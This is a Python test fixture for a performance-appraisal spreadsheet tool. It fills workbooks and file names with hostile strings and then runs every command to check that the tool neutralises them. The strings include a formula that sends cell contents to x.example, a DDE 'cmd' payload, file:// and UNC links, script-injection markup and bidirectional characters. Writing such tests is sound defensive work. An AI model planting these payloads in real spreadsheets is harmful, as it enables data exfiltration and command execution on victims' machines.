"""An office whose people type formulas, links, markup and odd letters everywhere (case P11)."""

from __future__ import annotations

import io
from collections.abc import Iterator, Mapping, Sequence
from contextlib import redirect_stderr, redirect_stdout
from dataclasses import dataclass
from functools import cache
from itertools import cycle
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import TYPE_CHECKING
from unittest.mock import patch

from openpyxl import load_workbook

from kinerja_xlsx.cli.app import group
from kinerja_xlsx.cli.keluar import run_guarded
from kinerja_xlsx.model.law import FormulirPegawai
from kinerja_xlsx.run import hitung_ulang, process
from kinerja_xlsx.run.executor import SerialExecutor
from kinerja_xlsx.run.templat import make_templates
from kinerja_xlsx.run.templat_skp import make_skp_templates
from tests import ekinerja_drawn, siasn_drawn
from tests.drawn import FIRST_ROW, HEADER_ROW
from tests.flow.alur import (
    KEPALA,
    PERAWAT,
    PERIOD,
    fill,
    heading_columns,
    open_office,
    rating,
    sound_ratings,
    sound_rows,
)
from tests.flow.skp import KATALOG, YEAR, fill_skp, plan_changes

if TYPE_CHECKING:
    from openpyxl.worksheet.worksheet import Worksheet

    from kinerja_xlsx.run.workspace import Workspace
    from tests.drawn import Row

MARK = "JAHAT"
"""Stands in every hostile text, so that it can be found wherever it went."""
FORMULAS = (
    f'=HYPERLINK("http://x.example/?{MARK}"&A1,"klik")', f"+62811{MARK}", f"-1+1{MARK}",
    f"@SUM(1){MARK}", f"=cmd|' /C calc'!{MARK}", f"{{=1+1}}{MARK}", f"\t=1+1{MARK}",
    f"\n=1+1{MARK}", f'=1+1&"{MARK}"', f"%0{MARK}",
)  # fmt: skip
LINKS = (
    f"http://x.example/{MARK}", f"internal:Data!{MARK}", f"external:c:\\{MARK}.xlsx",
    f"mailto:{MARK}@x.example", f"file:///etc/{MARK}", f"\\\\server\\{MARK}", f"javascript:{MARK}",
)  # fmt: skip
MARKUP = (
    f'<script>alert("{MARK}")</script>', f"<r><t>{MARK}</t></r>", f'&P&D&"Arial,Bold"{MARK}',
    f"[bold red]{MARK}[/]", f"{{{{7*7}}}}{MARK}", f"%s{{0}}{{nama}}{MARK}", f"_x005F_x0041_{MARK}",
    f"]]>{MARK}", f"'{MARK}'!A1", f'"><img src=x onerror="{MARK}">', f"</script>{MARK}",
)  # fmt: skip
LETTERS = (
    f"\u202e{MARK}\u202c", f"{MARK}_x0007__x001B_[31m", f"\u2066{MARK}\u2069\u200b",
    f"{MARK}\N{FAMILY}\N{COMBINING ACUTE ACCENT}", f"{MARK}\u2028baru",
)  # fmt: skip
EVIL = (*FORMULAS, *LINKS, *MARKUP, *LETTERS)
BOOKS = ("--per-pegawai", "--siap-cetak", "nama")
LONG = (f"={MARK} " * 5000)[:32_767]
_OF_RHK = frozenset({"Rencana Hasil Kerja", "RHK Pimpinan yang Diintervensi"})
_KEY = ("NIP", "No RHK")
_FREE = frozenset({
    "Nama", "Jabatan", "Unit Kerja", "Unit Kerja/Instansi", "Nama Unit", "Indikator", "Satuan",
    "Bukti Dukung", "Umpan Balik", "Umpan Balik Perilaku", "Catatan", "Ekspektasi Khusus",
    "Uraian",
})  # fmt: skip
"""Columns of free text; a hostile one where people are known would only withhold the row."""


@dataclass(frozen=True)
class Hasil:
    """What all commands made of the office.

    Attributes:
        files: Every file below the output folder, by its path.
        inputs: What `templat` gave out, by its path.
        said: What each command said on the screen.
    """

    files: Mapping[str, bytes]
    said: Mapping[str, str]

    def workbooks(self) -> dict[str, bytes]:
        return {name: data for name, data in self.files.items() if name.endswith(".xlsx")}


@cache
def hostile_results() -> Hasil:
    """Run every command over the office, once for all tests."""
    with TemporaryDirectory() as folder:
        root = Path(folder) / "ruang"
        said = dict(_run_all(root))
        files = {
            path.relative_to(root / "output").as_posix(): path.read_bytes()
            for path in sorted((root / "output").rglob("*"))
            if path.is_file()
        }
    return Hasil(files, said)


def _run_all(root: Path) -> Iterator[tuple[str, str]]:
    office = open_office(root, katalog=KATALOG)
    texts = cycle(EVIL)
    _plan(office, texts)
    _ask_for_every_form(office.pengaturan)
    _spoil(office.pengaturan, texts, ("Instansi", "Unit", "Pegawai", "Pejabat"))
    _spoil(office.pengaturan, texts, ("Katalog Indikator",))
    make_skp_templates(office, YEAR)
    (template,) = make_templates(office, PERIOD)
    sent = office.input / f"@SUM(1){MARK}.xlsx"
    # One is not rated yet, so that the rater gets a Lembar Penilai.
    ratings = [rating(KEPALA, None, None), *sound_ratings()[1:]]
    fill(root / template.path, sent, rows=sound_rows(), ratings=ratings)
    _spoil(sent, texts, ("Identitas", "Pegawai", "Pejabat", "Hasil Kerja", "Penilaian"))
    _add_strange_parts(sent)
    (office.input / f"+{MARK} \u202efdp.xlsx").write_bytes(b"<html>bukan buku kerja")
    ekspor = ekinerja_drawn.export(
        root.parent / "laporan.xlsx",
        [ekinerja_drawn.skp(PERAWAT, nama=f"\\{next(texts)}", skp_jabatan=f"\\{next(texts)}")],
        titles=(*ekinerja_drawn.TRIWULAN, f"'=1+1{MARK}"),
    )
    siasn = siasn_drawn.export(
        root.parent / "siasn.xlsx",
        [
            siasn_drawn.person(KEPALA, nama=f"\\{next(texts)}", jabatan_nama=f"\\{next(texts)}"),
            siasn_drawn.person("199503032022212001", nama=f"\\{FORMULAS[0]}"),
        ],
    )
    for command in (
        ("periksa",), ("proses", *BOOKS), ("jelaskan", PERAWAT, "--cetak"),
        ("ekspor", "--periode", PERIOD.code), ("riwayat",), ("riwayat", "PKM"),
        ("riwayat", PERAWAT), ("banding", str(ekspor)), ("impor-pegawai", str(siasn)),
        ("proses", "--json", *BOOKS),
    ):  # fmt: skip
        yield " ".join(command[:2]), _say((*command, "--ruang", str(root)))


def _ask_for_every_form(path: Path) -> None:
    book = load_workbook(path)
    asked = ", ".join(one.value for one in FormulirPegawai)
    _put(book["Periode"], FIRST_ROW, heading_columns(book["Periode"])["Formulir"], asked)
    book.save(path)


def _plan(office: Workspace, texts: Iterator[str]) -> None:
    """Send a plan for the year, whose indicators come from the catalogue."""
    (plan,) = make_skp_templates(office, YEAR)
    target = office.input / f"=1+1{MARK}.xlsx"
    lines: list[Row] = [{"NIP": PERAWAT, "Bagian": "Konsekuensi", "No": 1, "Uraian": "x"}]
    fill_skp(office.root / plan.path, target, plan_changes(), expected={PERAWAT: "x"}, lines=lines)
    _spoil(target, texts, ("Identitas", "Pegawai", "Hasil Kerja", "Lampiran SKP"))


def _say(command: Sequence[str]) -> str:
    """Run one command here; what it says on both channels."""
    out, err = io.StringIO(), io.StringIO()
    with (
        patch.object(process, "PoolExecutor", lambda *_, **__: SerialExecutor()),
        patch.object(hitung_ulang, "PoolExecutor", lambda *_, **__: SerialExecutor()),
        redirect_stdout(out),
        redirect_stderr(err),
    ):
        code = run_guarded(group, command)
    assert code in {0, 1}, f"{command[0]}: {code} {err.getvalue()}"
    return out.getvalue() + err.getvalue()


def _spoil(path: Path, texts: Iterator[str], sheets: Sequence[str]) -> None:
    """Put hostile texts over all free texts of a filled workbook."""
    book = load_workbook(path)
    for name in sheets:
        sheet = book[name]
        if sheet.cell(HEADER_ROW, 1).value == "Isian":
            _spoil_form(sheet, texts)
        else:
            _spoil_table(sheet, texts)
    book.save(path)


def _spoil_form(sheet: Worksheet, texts: Iterator[str]) -> None:
    for number in range(FIRST_ROW, sheet.max_row + 1):
        label = sheet.cell(number, 1).value
        if label in {"Nama Instansi", "Kota", "Tempat", "Nama Pimpinan", "Pengisi", "Kontak"}:
            _put(sheet, number, 2, next(texts))


def _spoil_table(sheet: Worksheet, texts: Iterator[str]) -> None:
    headings = heading_columns(sheet)
    of_rhk: dict[tuple[object, ...], str] = {}
    for number in range(FIRST_ROW, sheet.max_row + 1):
        if sheet.cell(number, 2).value is None:
            continue
        for heading in headings.keys() & _OF_RHK:
            # All rows of one RHK must say the same.
            key = (heading, *(sheet.cell(number, headings[name]).value for name in _KEY))
            _put(sheet, number, headings[heading], of_rhk.setdefault(key, next(texts)))
        for heading in (name for name in headings if name in _FREE):
            _put(sheet, number, headings[heading], next(texts))


def _put(sheet: Worksheet, row: int, column: int, text: str) -> None:
    cell = sheet.cell(row, column)
    cell.value = text
    cell.data_type = "s"


def _add_strange_parts(path: Path) -> None:
    """Add what no template has: a column, a row above, a sheet, a text as long as Excel bears."""
    book = load_workbook(path)
    work = book["Hasil Kerja"]
    last = max(heading_columns(work).values()) + 1
    _put(work, HEADER_ROW, last, FORMULAS[0])
    for row, text in enumerate(EVIL, start=FIRST_ROW):
        _put(work, row, last, text)
    _put(work, FIRST_ROW, last + 1, LONG)
    # The last of the three people is withheld, so that messages quote hostile values.
    for row, text in ((FIRST_ROW + 4, FORMULAS[0]), (FIRST_ROW + 5, MARKUP[0])):
        _put(work, row, heading_columns(work)["Realisasi"], text)
    sheet = book.create_sheet(f"={MARK}'1+1")
    _put(sheet, 1, 1, FORMULAS[0])
    book.save(path)
